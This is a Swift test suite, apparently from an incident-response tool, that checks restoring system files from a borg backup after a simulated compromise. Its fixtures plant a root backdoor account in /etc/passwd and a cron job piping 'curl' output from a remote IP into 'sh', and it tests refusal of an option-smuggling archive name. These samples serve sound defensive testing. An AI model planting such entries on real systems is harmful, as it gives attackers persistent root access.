import AtttTestSupport
import Foundation
import HardeningCore
import HostAccess
import IncidentResponse
import Remediation
import Testing

/// Bước 3 (Điều 11 khoản 2 điểm a) from a real borg repository: the archive is checked
/// (`borg check --repository-only`), chosen by the same rule as restic's snapshots, extracted into the
/// stage and put in place as one transaction equal to `borg extract --stdout`. The passphrase reaches
/// borg only in its environment, from the job's env file.
@Suite(.enabled(if: FileManager.default.isExecutableFile(atPath: "/usr/bin/borg") && geteuid() == 0,
                "needs Debian's borgbackup (scripts/deps.sh), and root: borg restores the files' owners only as root"))
struct BorgRestoreTests {
    let host: FixtureHost
    let env: [String: String]
    static let passphrase = "Mat-khau-kho-borg-1"

    init() throws {
        host = try FixtureHost("debian12-desktop")
        try host.write("/etc/borg/env", "export BORG_REPO=/media/usb/borg\nBORG_PASSPHRASE='\(Self.passphrase)'\n")
        try FileManager.default.createDirectory(at: host.url("/media/usb"), withIntermediateDirectories: true)
        env = ["BORG_REPO": host.url("/media/usb/borg").path, "BORG_PASSPHRASE": Self.passphrase, "BORG_BASE_DIR": host.url("/media/usb/base").path]
        let initialised = try Self.borg(["init", "--encryption", "repokey"], env: env)
        try #require(initialised.status == 0, "\(initialised.stderr)")
        try archive("pc-01-sang")
        try host.write("/var/lib/attt/backup/last.json", """
            {"time": "\(ISO8601DateFormatter().string(from: Date()))", "exitCode": 0, "tool": "borg", "target": "/media/usb/borg", "paths": ["/etc"], "snapshot": "pc-01-sang"}
            """)
    }

    static func borg(_ arguments: [String], env: [String: String]) throws -> AtttBinary.Output {
        try AtttBinary.run(executable: URL(fileURLWithPath: "/usr/bin/borg"), arguments, environment: env)
    }

    /// The job's command, run in the tree (borg stores `etc/…`) under the tree's host name, as on the PC
    /// (borg records the machine's name in the archive and takes no option for it).
    func archive(_ name: String, _ paths: String = "etc") throws {
        let made = try AtttBinary.run(executable: URL(fileURLWithPath: "/bin/sh"), ["-c", "cd \"$0\" && exec unshare --uts sh -c 'hostname -F etc/hostname && exec borg create \"::$1\" \(paths)' sh \"$1\"", host.root.path, name], environment: env)
        try #require(made.status == 0, "\(made.stderr)")
    }

    func tree() throws -> [String: String] {
        try snapshotTree(host.root).filter { !$0.key.hasPrefix("var/lib/attt") && !$0.key.hasPrefix(".attt-restore-") && !$0.key.hasPrefix("media/") }
    }

    func source(snapshot: String? = nil) throws -> BackupSource {
        try BackupSource.open(host: HostRoot(host.root.path), envFile: "/etc/borg/env", suspectedStart: nil, snapshot: snapshot)
    }

    @Test func theRecordedArchiveIsRestoredAndRolledBack() throws {
        try host.append("/etc/passwd", "sysadm:x:0:0::/root:/bin/bash\n")
        try host.remove("/etc/shells")
        try host.write("/etc/cron.d/evil", "* * * * * root curl -s http://6.6.6.6/x | sh\n")
        let attacked = try tree()
        let source = try source()
        #expect(source.kind == .borg && source.verifiable && source.snapshot == "pc-01-sang" && source.choice?.reason == .recorded)
        let restore = Restore(host: HostRoot(host.root.path))
        let preview = try restore.prepare(source: source, scopes: [.system], id: "test")
        #expect(Set(preview.selection.changes.map { "\($0.kind.rawValue) \($0.path)" }) == ["changed /etc/passwd", "missing /etc/shells", "not-in-backup /etc/cron.d/evil"],
                "\(preview.selection.changes.map(\.path))")
        let journal = try restore.apply(preview, officer: "can-bo")
        #expect(journal.state == .applied, "\(journal.error ?? "")")
        for path in ["/etc/passwd", "/etc/shells"] {
            let extracted = try Self.borg(["extract", "--stdout", "::pc-01-sang", String(path.dropFirst())], env: env)
            let restored = try Data(contentsOf: host.url(path))
            #expect(extracted.status == 0 && extracted.data == restored, "\(path)")
        }
        #expect(!FileManager.default.fileExists(atPath: host.url("/etc/cron.d/evil").path))
        _ = try Applier(host: HostRoot(host.root.path)).rollback(nil)
        #expect(try tree() == attacked)
    }

    /// An archive the attacker adds later (with the job's passphrase) is not taken without a name.
    @Test func aLaterArchiveIsNotTaken() throws {
        try host.replace("/var/lib/attt/backup/last.json", ", \"snapshot\": \"pc-01-sang\"", with: "")
        Thread.sleep(forTimeInterval: 2.2)
        try host.append("/etc/passwd", "sysadm:x:0:0::/root:/bin/bash\n")
        try archive("pc-01-ke-tan-cong")
        let source = try source()
        #expect(source.snapshot == "pc-01-sang" && source.choice?.reason == .newestBefore, "\(String(describing: source.choice))")
        #expect(try self.source(snapshot: "pc-01-ke-tan-cong").snapshot == "pc-01-ke-tan-cong")
    }

    /// The free space asked for is what the restored roots hold in the archive (`borg list --json-lines`),
    /// not the whole archive's, which holds /home too.
    @Test func theSizeCountedIsTheRestoredRoots() throws {
        try host.writeData("/home/an/anh.raw", Data(repeating: 7, count: 3 << 20))
        try host.write("/home/an/ghi-chu.txt", "ghi chú\n")
        try archive("pc-01-ca-home", "etc home")
        // The job's record of that run, written after it (a record older than its copy is refused).
        try host.write("/var/lib/attt/backup/last.json", """
            {"time": "\(ISO8601DateFormatter().string(from: Date().addingTimeInterval(1)))", "exitCode": 0, "tool": "borg", "target": "/media/usb/borg", "paths": ["/etc", "/home"], "snapshot": "pc-01-ca-home"}
            """)
        let source = try source()
        #expect(source.snapshot == "pc-01-ca-home")
        let etc = try host.regularFileBytes(under: "/etc"), home = try host.regularFileBytes(under: "/home")
        #expect(home > 3 << 20)
        #expect(try source.restoreSize(of: ["/etc"]) == etc)
        #expect(try source.restoreSize(of: ["/etc", "/home"]) == etc + home)
        #expect(try source.restoreSize(of: ["/srv"]) == 0)
    }

    /// The archive records the machine that made it: one from another PC sharing the repository is not
    /// taken, and last.json naming it is refused.
    @Test func anotherMachinesArchiveIsNotTaken() throws {
        try host.replace("/var/lib/attt/backup/last.json", ", \"snapshot\": \"pc-01-sang\"", with: "")
        let neighbour = try FixtureHost("debian12-desktop")
        try neighbour.write("/etc/hostname", "ubnd-xa-pc02\n")
        Thread.sleep(forTimeInterval: 1.1)
        let made = try AtttBinary.run(executable: URL(fileURLWithPath: "/bin/sh"), ["-c", "cd \"$0\" && exec unshare --uts sh -c 'hostname -F etc/hostname && exec borg create ::pc-02-sang etc'", neighbour.root.path], environment: env)
        try #require(made.status == 0, "\(made.stderr)")
        let source = try source()
        #expect(source.snapshot == "pc-01-sang" && source.choice?.why.contains("bỏ qua 1 bản của máy khác") == true, "\(String(describing: source.choice))")
        try host.replace("/var/lib/attt/backup/last.json", "\"paths\": [\"/etc\"]", with: "\"paths\": [\"/etc\"], \"snapshot\": \"pc-02-sang\"")
        #expect(throws: BackupSource.Refused.self) { try self.source() }
    }

    /// The passphrase comes only from the env file, and a wrong one is refused before anything is staged.
    @Test func aWrongPassphraseIsRefused() throws {
        try host.write("/etc/borg/env", "BORG_REPO=/media/usb/borg\nBORG_PASSPHRASE=sai\n")
        #expect(throws: BackupSource.Refused.self) { try source() }
        try host.write("/etc/borg/env", "BORG_REPO=/media/usb/borg\n")
        #expect(throws: BackupSource.Refused.self) { try source() }
        #expect(!BackupSource.isArchiveName("--remote-path=sh") && !BackupSource.isArchiveName("a::b") && BackupSource.isArchiveName("pc-01-2026-12-06T02:00:07"))
    }
}
